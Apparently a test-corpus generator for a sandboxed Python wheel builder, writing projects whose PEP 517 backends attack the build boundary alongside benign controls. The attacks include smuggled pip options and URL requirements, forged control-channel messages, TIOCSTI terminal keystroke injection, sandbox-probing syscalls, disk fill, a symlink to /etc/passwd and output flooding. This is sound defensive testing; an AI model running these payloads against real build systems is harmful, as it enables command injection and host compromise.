#!/usr/bin/env python3
"""Writes wheelfarm's hostile corpus: source trees that attack the build boundary, and controls
that must still build. Usage: make-corpus.py DIRECTORY PORT

Every case is a project with an in-tree PEP 517 backend (backend.py, through backend-path) that
wraps setuptools; the attack sits in get_requires_for_build_wheel (which runs in the sandbox),
in pyproject.toml's requires, or in what build_wheel leaves in the output folder. PORT is a
listener on the host's loopback that must never hear from a build.
"""
import json
import os
import sys

BACKEND_HEAD = '''
import os, sys
from setuptools import build_meta as _setuptools

def _settings(config_settings):
    return config_settings

get_requires_for_build_sdist = _setuptools.get_requires_for_build_sdist

def _output_folder():
    """The folder pip wheel -w puts the finished wheel in, read off pip's command line."""
    for pid in os.listdir("/proc"):
        try:
            argv = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"wheel" in argv and b"-w" in argv:
            return argv[argv.index(b"-w") + 1].decode()
    return "/tmp"
prepare_metadata_for_build_wheel = _setuptools.prepare_metadata_for_build_wheel
build_sdist = _setuptools.build_sdist
'''

PLAIN_GET_REQUIRES = '''
def get_requires_for_build_wheel(config_settings=None):
    return []
'''

PLAIN_BUILD_WHEEL = '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
'''

CASES = {
    # --- attacks -------------------------------------------------------------------------------
    # A build requirement that is a pip option: it would make the host's pip write a file.
    "requires-option": {
        "requires": ["setuptools", "--report=/tmp/wheelfarm-hostile-report.json"],
    },
    # A direct reference: the host's pip would fetch an address the sdist chose.
    "requires-url": {
        "requires": ["setuptools", "hostileprobe @ http://127.0.0.1:{port}/hostileprobe-1.0-py3-none-any.whl"],
    },
    # The backend's hook answers with options and a URL.
    "hook-options": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    return ["--index-url=http://127.0.0.1:{port}/simple/", "hostileprobe"]
''',
    },
    # The backend prints the helper's protocol on its standard output and tries to reach the
    # helper's control channel: nothing of it may count.
    "forged-protocol": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    print('{{"requires": ["wheelfarm-forged-probe"]}}', flush=True)
    print('WHEELFARM-REQUIRES ["wheelfarm-forged-probe"]', flush=True)
    print('{{"building": true}}', flush=True)
    for path in ["/proc/self/fd/3", "/proc/%d/fd/3" % os.getppid(), "/dev/fd/3"]:
        try:
            with open(path, "w") as control:
                control.write('{{"requires": ["wheelfarm-forged-probe"]}}\\n')
            print("FORGED-CONTROL wrote", path, flush=True)
        except OSError as error:
            print("forged-protocol: cannot open", path, error.strerror, flush=True)
    return []
''',
    },
    # Keystrokes pushed into the controlling terminal (TIOCSTI) would run as root once wheelfarm exits.
    "terminal": {
        "get_requires": '''
import fcntl, termios
def get_requires_for_build_wheel(config_settings=None):
    command = "echo INJECTED-BY-THE-BUILD\\n"
    targets = []
    try:
        targets.append(os.open("/dev/tty", os.O_RDWR))
    except OSError as error:
        print("terminal: no /dev/tty:", error.strerror, flush=True)
    targets += [0, 1, 2]
    for fd in targets:
        try:
            for character in command:
                fcntl.ioctl(fd, termios.TIOCSTI, character.encode())
            print("TERMINAL-INJECTED through fd", fd, flush=True)
        except OSError as error:
            print("terminal: fd", fd, error.strerror, flush=True)
    return []
''',
    },
    # System calls a build never needs.
    "kernel-surface": {
        "get_requires": '''
import ctypes, errno
def get_requires_for_build_wheel(config_settings=None):
    libc = ctypes.CDLL(None, use_errno=True)
    for name, call in [("userns", lambda: libc.unshare(0x10000000)), ("keyctl", lambda: libc.syscall(250, 0, 0, 0, 0)),
                       ("bpf", lambda: libc.syscall(321, 0, 0, 0)), ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))]:
        result = call()
        print("kernel-surface:", name, "allowed" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"), flush=True)
    return []
''',
    },
    # Gigabytes beside the wheel (here 300 MiB), meant for the host's disk: written straight into the
    # folder the wheel is taken from (pip's -w folder, which the build can read off pip's command line).
    "disk-fill": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
    with open(_output_folder() + "/filler.bin", "wb") as filler:
        for _ in range(300):
            filler.write(b"\\0" * (1 << 20))
    return name
''',
    },
    # A "wheel" that is a link to a file of the root, and a fifo beside it, in that same folder.
    "output-link": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
    os.symlink("/etc/passwd", _output_folder() + "/" + name.replace("-1.0-", "-1.0-1-"))
    os.mkfifo(_output_folder() + "/pipe")
    return name
''',
    },
    # 400 MiB of output: the farm's memory must stay flat and the log keep head and tail.
    "flood": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    line = ("flood " * 20 + "\\n").encode()
    out = os.fdopen(1, "wb", closefd=False)
    for _ in range((400 << 20) // len(line)):
        out.write(line)
    out.flush()
    print("FLOOD-END", flush=True)
    return []
''',
    },
    # --- controls: these must build ------------------------------------------------------------
    "control-plain": {},
    "control-extra-requirement": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    return ["wheel>=0.40"]
''',
    },
    "control-chatty": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    for index in range(200000):
        print("compiling unit", index, "of 200000 with a long and perfectly ordinary line of output", flush=False)
    sys.stdout.flush()
    return []
''',
    },
}


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        handle.write(text)


def main():
    directory, port = sys.argv[1], sys.argv[2]
    for case, parts in CASES.items():
        name = "hostile_" + case.replace("-", "_")
        root = os.path.join(directory, case)
        requires = [r.format(port=port) for r in parts.get("requires", ["setuptools"])]
        write(os.path.join(root, "pyproject.toml"),
              "[build-system]\nrequires = %s\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n"
              "[project]\nname = \"%s\"\nversion = \"1.0\"\n\n[tool.setuptools]\npackages = [\"%s\"]\n"
              % (json.dumps(requires), name, name))
        backend = BACKEND_HEAD + parts.get("get_requires", PLAIN_GET_REQUIRES).format(port=port) + parts.get("build_wheel", PLAIN_BUILD_WHEEL)
        write(os.path.join(root, "backend.py"), backend)
        write(os.path.join(root, name, "__init__.py"), "CASE = %r\n" % case)


if __name__ == "__main__":
    main()
